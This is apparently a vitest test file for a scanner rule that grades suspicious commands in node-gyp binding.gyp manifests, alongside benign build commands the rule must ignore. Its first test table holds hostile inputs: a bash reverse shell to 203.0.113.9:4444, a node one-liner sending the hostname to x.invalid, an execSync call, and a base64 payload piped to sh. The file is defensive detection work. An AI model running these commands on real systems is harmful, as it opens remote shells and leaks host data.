import { describe, expect, it } from 'vitest';
import { packageFacts } from '../rule-test-kit.js';
import { installGypCommandExpansion as rule } from './install-gyp-command-expansion.js';

const run = (...commands: string[]) => rule.run(packageFacts({ manifest: { bindingGyp: { commands } } }));

describe('install-gyp-command-expansion', () => {
  it.each([
    [`node -e "require('https').get('https://x.invalid/'+require('os').hostname())"`, 'high', 'high'],
    [`node -e "require('child_process').execSync('id')"`, 'high', 'high'],
    ['bash -c "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"', 'critical', 'high'],
    ['sh -c "echo cGF5bG9hZA== | base64 -d | sh"', 'high', 'high'],
    ['osascript -e "display dialog 1"', 'medium', 'low'],
  ])('grades %s as %s/%s', (command, severity, confidence) => {
    expect(run(command)).toMatchObject([{ severity, confidence }]);
  });

  it.each([
    `node -p "require('node-addon-api').include"`,
    `node -p "require('node-addon-api').include_dir"`,
    `node -e "require('nan')"`,
    `node -p "process.env.npm_config_arch || process.arch"`,
    `node -p "require('./lib/libvips').minimumLibvipsVersion"`,
    'pkg-config --cflags --libs cairo',
    './util/has_lib.sh freetype',
    'node ./util/has_lib.js gif',
    'python -c "import sys; print(sys.byteorder)"',
    'uname -m',
    'xcrun --show-sdk-path',
  ])('is silent for %s', (command) => {
    expect(run(command)).toEqual([]);
  });
});
